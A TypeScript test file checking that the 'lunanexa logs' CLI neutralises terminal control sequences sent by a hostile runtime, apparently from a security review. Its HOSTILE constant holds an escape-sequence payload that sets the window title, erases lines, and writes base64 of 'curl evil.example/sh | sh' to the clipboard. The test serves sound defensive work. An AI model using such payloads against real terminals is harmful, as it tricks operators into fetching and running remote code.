import { execFile, execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MachineView } from '../../shared/contracts/machine.js';
import { buildCli, runCli } from '../helpers/cli.js';
import { TEST_INVENTORY } from '../helpers/machine.js';

/**
 * `lunanexa logs` as its own process, against a management API that answers with what a hostile runtime printed
 * (second security review, L10): window title, OSC 52 clipboard write, erased lines. None of it may reach the
 * operator's terminal as control characters.
 */

const ESC = '\u001b';
const BEL = '\u0007';
const HOSTILE = `${ESC}]0;owned${BEL}${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==${BEL}${ESC}[2K${ESC}[1A\u009b2J`;
/** util-linux `script`, which runs a command on a pseudo-terminal: where it is missing, the terminal case is skipped. */
const hasScript = (() => {
  try {
    return execFileSync('script', ['--version'], { encoding: 'utf8' }).includes('util-linux');
  } catch {
    return false;
  }
})();

/** Control characters a terminal acts on: C0 but tab and newline, DEL, C1. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const machine = MachineView.parse({
  id: 'mch_01J00000000000000000000000',
  name: 'evil-1',
  workspaceId: 'ws_01J00000000000000000000000',
  labels: {},
  state: 'ready',
  reportedStatus: 'ready',
  streamAttached: true,
  heartbeatAgeMs: 100,
  lastHeartbeatAt: new Date().toISOString(),
  desiredGen: 1,
  reportedGen: 1,
  cordoned: false,
  draining: false,
  drained: false,
  shared: false,
  revokedAt: null,
  credentialExpiresAt: null,
  inventory: TEST_INVENTORY,
  resources: {
    capacity: { gpus: 1, memoryMiB: 131_072, cores: 20 },
    replicas: { gpus: 1, memoryMiB: 16_384, cores: 0 },
    workers: { gpus: 0, memoryMiB: 0, cores: 0 },
    free: { gpus: 0, memoryMiB: 114_688, cores: 20 },
  },
  warmModels: [],
  runtimes: [
    {
      assignmentId: 'asg_01J00000000000000000000000',
      deploymentId: 'dep_01J00000000000000000000000',
      deploymentName: 'pyrt-dep',
      model: 'pyrt',
      desired: true,
      reportedState: 'ready',
      state: 'ready',
      gen: 1,
      restarts: 0,
      message: null,
      reportedAgeMs: 100,
      routable: true,
      warm: true,
      activeInvocations: 0,
      queueDepth: 0,
      progress: null,
    },
  ],
  attention: [],
  createdAt: new Date().toISOString(),
});

describe('lunanexa logs writes no runtime control characters to the terminal', () => {
  let server: Server;
  let dir: string;
  let cli: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'lnx-cli-logs-'));
    cli = await buildCli(dir);
    server = createServer((request, response) => {
      const path = new URL(request.url ?? '/', 'http://x').pathname;
      const json = (value: unknown) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(JSON.stringify(value));
      };
      if (path === '/api/v1/machines') return json({ data: [machine], nextCursor: null });
      if (path === `/api/v1/machines/${machine.id}/runtimes/${machine.runtimes[0]!.assignmentId}/logs`)
        return json({ lines: ['starting', HOSTILE, 'tab\there'] });
      response.writeHead(404, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ error: { code: 'not_found', message: path, requestId: 'x' } }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    env = { LUNANEXA_URL: url, LUNANEXA_TOKEN: 'lnx_test', HOME: dir, LUNANEXA_CONFIG: join(dir, 'login.json') };
  }, 60_000);
  afterAll(async () => {
    await new Promise((resolve) => server?.close(resolve));
    await rm(dir, { recursive: true, force: true });
  });

  it('renders them visibly in its default output (here a pipe, as `| od -c` in the report)', async () => {
    const run = await runCli(cli, ['logs', 'evil-1', 'pyrt-dep', '-n', '5'], env);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stdout.split('\n')).toEqual([
      'starting',
      '\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07\\x1b[2K\\x1b[1A\\x9b2J',
      'tab\there',
      '',
    ]);
  });

  it('passes them through only with --raw, and only into something other than a terminal', async () => {
    const run = await runCli(cli, ['logs', 'evil-1', 'pyrt-dep', '-n', '5', '--raw'], env);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`starting\n${HOSTILE}\ntab\there\n`);
  });

  it.skipIf(!hasScript)('renders them visibly on a terminal even with --raw', async () => {
    const command = [process.execPath, cli, 'logs', 'evil-1', 'pyrt-dep', '-n', '5', '--raw'].map((arg) => `'${arg}'`).join(' ');
    const stdout = await new Promise<string>((resolve, reject) => {
      execFile('script', ['-qec', command, '/dev/null'], { env: { PATH: process.env.PATH, ...env }, timeout: 60_000 }, (error, out) =>
        error ? reject(error) : resolve(out),
      );
    });
    // The terminal writes each newline as CR LF; nothing else of a control character may come through.
    expect(stdout.replaceAll('\r\n', '\n')).not.toMatch(CONTROL);
    expect(stdout).toContain('\\x1b]52;c;');
  });
});
